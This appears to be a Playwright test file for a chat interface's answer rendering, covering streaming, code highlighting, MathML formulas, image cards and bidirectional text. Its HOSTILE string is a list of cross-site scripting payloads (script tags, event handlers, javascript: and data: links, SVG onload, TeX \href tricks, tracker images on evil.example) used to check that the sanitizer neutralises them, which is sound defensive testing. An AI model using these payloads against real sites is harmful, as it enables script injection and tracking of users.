"""How an answer looks, from its first character to its last. What needs no browser is tested in `tests/web/`."""

from __future__ import annotations

import base64
import re

from playwright.sync_api import expect

from .conftest import Watched
from .rig import ANSWER, needs_libraries, turns

pytestmark = needs_libraries

# A red dot of five pixels.
DOT = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAA"
    "AABJRU5ErkJggg=="
)

HOSTILE = f"""\
<script>alert("script")</script>

<img src="https://evil.example/pixel.png" onerror="alert('img')"> and <b onclick="alert(1)">bold</b>

![pixel](https://evil.example/tracker.png?secret=1) [click](javascript:alert(1)) [click](java&Tab;script:alert(2))

[![nested](https://evil.example/nested.png)](data:text/html,<script>alert(3)</script>)

<svg onload="alert(4)"><style>body {{ background: url(https://evil.example/css.png) }}</style></svg>

<iframe src="https://evil.example/frame"></iframe><link rel="preload" href="https://evil.example/preload">

```html
<script>alert("fence")</script>
```

```"><img/src="https://evil.example/info"onerror=alert(7)>
../../../app.js
```

| <img src=x onerror=alert(5)> | `<script>alert(6)</script>` | <td onclick="alert(8)" style="position:fixed"> |
|---|---|:-:|
| https://evil.example/auto | <https://evil.example/angle> | extra | more |

$\\href{{javascript:alert(9)}}{{x}}$ and $\\includegraphics{{https://evil.example/tex.png}}$

In the middle $\\class{{message}}{{y}}$ of a line.

$$\\text{{<img src=https://evil.example/text onerror=alert(10)>}} \\style{{position:fixed;inset:0}}{{z}}$$

$\\text{{</math><script>alert(11)</script>}}$

![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEyKSI+) ![html](data:text/html;base64,PHNjcmlwdD4=)

![dot" onload="alert(13)]({DOT} "title\\" onerror=\\"alert(14)")

The end.
"""

# What of it is no link, no image and no formula that could be shown: all of it is there to read.
READABLE = (
    '<script>alert("script")</script>',
    "onerror=\"alert('img')\"",
    '<b onclick="alert(1)">',
    "javascript:alert(1)",
    "java script:alert(2)",
    "<iframe src=",
    '<link rel="preload" href=',
    "<svg onload=",
    '<script>alert("fence")</script>',
    "../../../app.js",
    "<img src=x onerror=alert(5)>",
    '<td onclick="alert(8)" style="position:fixed">',
    "$\\href{javascript:alert(9)}{x}$",
    "$\\includegraphics{https://evil.example/tex.png}$",
    "$\\class{message}{y}$",
    "\\style{position:fixed;inset:0}{z}",
    "</math><script>alert(11)</script>",
    "svg (data:image/svg+xml;base64,PHN2Z",
    "html (data:text/html;base64,PHNjcmlwdD4=)",
    "The end.",
)

EVERYTHING = f"""\
{ANSWER}

Euler: $e^{{i\\pi}} + 1 = 0$, wrong: $\\frac{{1}}$, and it costs $5 and $10.

$$
\\begin{{aligned}} a &= b \\\\ c &= \\frac{{d}}{{e}} \\end{{aligned}}
$$

- [x] done
- [ ] to do, \\(x_1\\)

![dot]({DOT})

![a cat](https://images.example/cat.png)

```js
const last = [1, 2, 3].map((n) => n * 2) // the last one
```
"""

# Renders the whole text at once with the page's own modules; the answer on the page must look the same.
ONE_SHOT = """
async (source) => {
    const names = ["markdown", "patch", "code", "formula", "pictures", "node_modules/marked/lib/marked.esm"]
    const [{ createMarkdown }, { createPatch }, { createCodeBlock }, { createFormula }, { createPicture }, marked] =
        await Promise.all(names.map((name) => import(`/${name}.js`)))
    const whole = document.createElement("div")
    const picture = createPicture(new Set())
    const components = { "code-block": createCodeBlock, "tex-formula": createFormula(), "image-card": picture }
    createPatch(components)(whole, [], createMarkdown(marked).render(source))
    window.whole = whole
}
"""

# At each frame every block but the last two is settled, as this text is written: each has a blank line before it.
KEEP_BLOCKS = """
() => {
    window.replaced = []
    const known = []
    const look = () => {
        const blocks = [...(document.querySelector(".prose")?.children ?? [])]
        known.forEach((block, index) => blocks[index] === block || replaced.push(block.outerHTML))
        known.push(...blocks.slice(known.length, -2))
        requestAnimationFrame(look)
    }
    look()
}
"""

COLOURS = """
() => {
    const text = ({ startContainer, startOffset, endOffset }) => startContainer.data.slice(startOffset, endOffset)
    return Object.fromEntries([...CSS.highlights].map(([name, ranges]) => [name, [...ranges].map(text).sort()]))
}
"""


def test_a_streamed_answer_looks_like_one_that_is_rendered_at_once_and_no_settled_block_is_replaced(open_page):
    watched = open_page(turns(EVERYTHING, delay=0.002))
    watched.page.evaluate(KEEP_BLOCKS)
    watched.ask("Hi")
    watched.page.wait_for_selector(".prose h3 + p + ul")
    watched.page.evaluate("getSelection().selectAllChildren(document.querySelector('.prose h3'))")
    watched.wait_until_answered()
    watched.page.evaluate(ONE_SHOT, EVERYTHING)
    watched.until("document.querySelector('.prose').innerHTML === whole.innerHTML")
    assert watched.page.evaluate("replaced") == []
    assert watched.page.evaluate("getSelection().toString().trim()") == "Server-sent events"
    assert watched.page.locator(".prose math").count() == 3, "so the comparison was not of plain texts"
    watched.assert_clean()


def test_a_hostile_answer_runs_nothing_asks_for_nothing_and_stays_readable(open_page):
    watched = open_page(turns(HOSTILE))
    watched.ask("Hi")
    watched.wait_until_answered()
    watched.page.wait_for_selector(".formula[title]")
    text = watched.page.inner_text(".prose")
    assert [piece for piece in READABLE if piece not in text.replace("\t", " ")] == []
    assert (
        watched.page.locator(
            ".prose :is(script, svg, style, iframe, link, object, base, form, [id], [onclick])"
        ).count()
        == 0
    )
    assert watched.page.locator(".prose [style]:not(math *, math)").count() == 0
    sources = watched.page.eval_on_selector_all(".prose [src]", "all => all.map((one) => one.getAttribute('src'))")
    assert sources == [DOT]
    hrefs = watched.page.eval_on_selector_all(".prose [href]", "links => links.map((link) => link.href)")
    assert hrefs
    assert all(href.startswith("https://evil.example/") for href in hrefs)
    watched.page.hover(".prose a")
    watched.assert_clean()


# --- code -------------------------------------------------------------------------------------------------------------

CODE = "```python\n" + "\n".join(f"def f{n}(x):\n    return '{n}'  # one\n" for n in range(120)) + "```\n\nAfter it.\n"


def test_code_is_one_text_in_colours_that_can_be_selected_copied_wrapped_and_saved(open_page, context):
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    watched = open_page(turns(CODE, chunk=20, delay=0.005))
    page = watched.page
    watched.ask("Hi")
    watched.until("(CSS.highlights.get('token-kwd')?.size ?? 0) > 4")
    # A selection in what is still being written survives.
    page.evaluate("""() => {
        window.node = document.querySelector(".code code").firstChild
        getSelection().setBaseAndExtent(node, 4, node, 6)
    }""")
    watched.wait_until_answered()
    assert page.evaluate("getSelection().toString()") == "f0"
    assert page.evaluate("node === document.querySelector('.code code').firstChild")
    source = CODE.removeprefix("```python\n").partition("```")[0].removesuffix("\n")
    assert page.evaluate("node.data") == source
    assert page.locator(".code code span").count() == 0
    watched.until("CSS.highlights.get('token-kwd').size === 240")
    streamed = page.evaluate(COLOURS)
    assert streamed["token-cmnt"] == ["# one"] * 120

    # Its bar stays in view, and is used by the keyboard.
    page.locator(".code pre").focus()
    page.evaluate("scroller.scrollTop += 1500")
    bar, view = page.locator(".code-bar").bounding_box(), page.locator("#scroller").bounding_box()
    assert bar and view
    assert view["y"] <= bar["y"] < view["y"] + 60
    page.keyboard.press("Shift+Tab")
    expect(page.get_by_role("button", name="Copy code")).to_be_focused()
    page.keyboard.press("Enter")
    watched.until("async (source) => (await navigator.clipboard.readText()) === source", source)
    page.keyboard.press("Shift+Tab")
    with page.expect_download() as download:
        page.keyboard.press("Enter")
    assert download.value.suggested_filename == "code.py"
    assert download.value.path().read_text("utf-8") == f"{source}\n"
    page.keyboard.press("Shift+Tab")
    wrap = page.get_by_role("button", name="Wrap")
    expect(wrap).to_be_focused()
    page.keyboard.press("Space")
    expect(wrap).to_have_attribute("aria-pressed", "true")
    expect(page.locator(".code pre")).to_have_css("white-space-collapse", "preserve")
    expect(page.locator(".code pre")).to_have_css("text-wrap-mode", "wrap")

    # Loaded, it has the colours that it had; what leaves the page leaves none.
    watched.reload()
    # A language within the language may come later, and then all is coloured anew.
    same = f"(all) => Object.entries(all).every(([name, texts]) => String(texts) === String(({COLOURS})()[name]))"
    watched.until(same, streamed)
    page.click("#clear")
    watched.until("[...CSS.highlights.values()].every(({ size }) => size === 0)")
    watched.assert_clean()


def test_without_custom_highlights_colours_are_spans(serve, context):
    context.add_init_script("delete window.Highlight")
    watched = Watched(context.new_page(), serve(turns(CODE, chunk=40)))
    watched.answer("Hi")
    expect(watched.page.locator(".code .token-kwd")).to_have_count(240)
    assert watched.page.inner_text(".code code") == CODE.removeprefix("```python\n").partition("```")[0].removesuffix(
        "\n"
    )
    watched.assert_clean()


# --- formulas ---------------------------------------------------------------------------------------------------------

FORMULAS = """\
The price is $5 and $10, then $E = mc^2$, wrong is $\\frac{1}$.

$$
\\int_0^1 x\\,dx = \\fcolorbox{red}{white}{half}
$$

The end.
"""


def test_formulas_are_mathml_and_copied_as_tex(open_page, context):
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    watched = open_page(turns(FORMULAS))
    page = watched.page
    watched.ask("Hi")
    watched.wait_until_answered()
    expect(page.locator(".prose math")).to_have_count(2)
    expect(page.locator(".prose math[display=block]")).to_have_count(1)
    # Styles of it are set, though not by attributes, which the policy forbids.
    assert page.evaluate(
        "[...document.querySelectorAll('math [style]')].some((one) => one.style.borderTopColor !== '')"
    )
    wrong = page.locator(".formula.source")
    expect(wrong).to_have_text("$\\frac{1}$")
    expect(wrong).to_have_attribute("title", re.compile("expected '}'"))
    expect(page.locator(".prose p").first).to_contain_text("The price is $5 and $10, then")

    page.evaluate("getSelection().selectAllChildren(document.querySelector('.prose'))")
    page.keyboard.press("Control+c")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.strip() == FORMULAS.strip()
    # A part of one is the whole of it.
    page.evaluate("""() => {
        const leaf = document.querySelector("math mi").firstChild
        getSelection().setBaseAndExtent(leaf, 0, leaf, 1)
    }""")
    page.keyboard.press("Control+c")
    assert page.evaluate("navigator.clipboard.readText()") == "$E = mc^2$"
    watched.assert_clean()


def test_without_temml_a_formula_is_its_source(serve, context):
    context.route("**/temml.mjs", lambda route: route.fulfill(status=404, body="{}"))
    watched = Watched(context.new_page(), serve(turns(FORMULAS)))
    watched.answer("Hi")
    expect(watched.page.locator(".formula.source")).to_have_count(3)
    text = watched.page.inner_text(".prose")
    assert "then $E = mc^2$, wrong is $\\frac{1}$." in text
    assert "$$\n\\int_0^1 x\\,dx" in text
    watched.assert_clean()


# --- images -----------------------------------------------------------------------------------------------------------

IMAGES = f"""\
![a cat](https://images.example/cat.png)

![gone](https://images.example/gone.png)

![elsewhere](https://other.example/dog.png)

![a dot]({DOT})
"""


def test_an_image_is_a_card_that_names_its_host_and_opens_elsewhere(open_page, context):
    context.route("https://*.example/*", lambda route: route.fulfill(body="it"))
    watched = open_page(turns(IMAGES))
    watched.ask("Hi")
    watched.wait_until_answered()
    cards = watched.page.locator(".prose a.image")
    expect(cards).to_have_text(
        ["Image from images.example: a cat", "Image from images.example: gone", "Image from other.example: elsewhere"]
    )
    expect(cards.first).to_have_attribute("rel", "noopener noreferrer")
    with context.expect_page() as opened:
        cards.first.click()
    assert opened.value.url == "https://images.example/cat.png"
    expect(cards).to_have_count(3)
    dot = watched.page.get_by_role("img", name="a dot")
    expect(dot).to_be_visible()
    assert dot.evaluate("(image) => image.naturalWidth") == 5
    watched.assert_clean()


def test_an_image_of_an_allowed_host_is_loaded_in_place_by_a_click(open_page, context):
    dot = base64.b64decode(DOT.partition(",")[2])
    cat, gone = "https://images.example/cat.png", "https://images.example/gone.png"
    context.route(cat, lambda route: route.fulfill(body=dot, content_type="image/png"))
    context.route(gone, lambda route: route.abort())
    watched = open_page(turns(IMAGES), "--image-host", "images.example")
    page = watched.page
    watched.ask("Hi")
    watched.wait_until_answered()
    assert [url for url in watched.requests if "example" in url] == []
    expect(page.get_by_role("link", name="elsewhere")).to_be_visible()
    page.get_by_role("button", name="a cat").press("Enter")
    picture = page.get_by_role("img", name="a cat")
    expect(picture).to_be_visible()
    # The keyboard's place is kept: the picture is a link to itself.
    expect(page.locator("a:focus > img")).to_have_count(1)
    page.get_by_role("button", name="gone").click()
    expect(page.get_by_role("status").filter(has_text="could not be loaded")).to_be_visible()
    expect(page.get_by_role("button", name="gone")).to_be_enabled()
    assert [url for url in watched.requests if "example" in url] == [cat, gone]
    assert page.evaluate("violations") == []


# --- directions -------------------------------------------------------------------------------------------------------

BOTH_WAYS = """\
# \u05e9\u05dc\u05d5\u05dd

`npm install` \u05d4\u05d5\u05d0 \u05e4\u05e7\u05d5\u05d3\u05d4

English here.

- \u05d0\u05d7\u05ea
- two!

> \u05e6\u05d9\u05d8\u05d5\u05d8

| \u05d0 | b |
|---|---|
| \u05d1 | c |

```
x = 1
```
"""


def test_each_block_is_written_in_its_own_direction_and_code_from_left_to_right(open_page):
    watched = open_page(turns(BOTH_WAYS))
    watched.ask("Hi")
    watched.wait_until_answered()
    direction = "all => all.map((one) => `${one.localName} ${getComputedStyle(one).direction}`)"
    assert watched.page.eval_on_selector_all(".prose > *", direction) == [
        "h3 rtl",
        "p rtl",
        "p ltr",
        "ul rtl",
        "blockquote rtl",
        "div rtl",
        "div ltr",
    ]
    assert watched.page.eval_on_selector_all(".prose :not(pre) > code", direction) == ["code ltr"]
    # The markers of a list and the bar of a quote are on the side where their lines begin.
    box = watched.page.locator(".prose ul").bounding_box()
    item = watched.page.locator(".prose li").first.bounding_box()
    assert box and item
    assert box["x"] + box["width"] - (item["x"] + item["width"]) > 16
    assert item["x"] == box["x"]
    expect(watched.page.locator("blockquote")).to_have_css("border-right-width", "3px")
    # What is in the other direction in it keeps its own order: the mark comes last.
    order = """(item) => [0, 3].map((at) => {
        const range = document.createRange()
        range.setStart(item.firstChild, at)
        range.setEnd(item.firstChild, at + 1)
        return range.getBoundingClientRect().x
    })"""
    first, mark = watched.page.locator(".prose li").nth(1).evaluate(order)
    assert first < mark
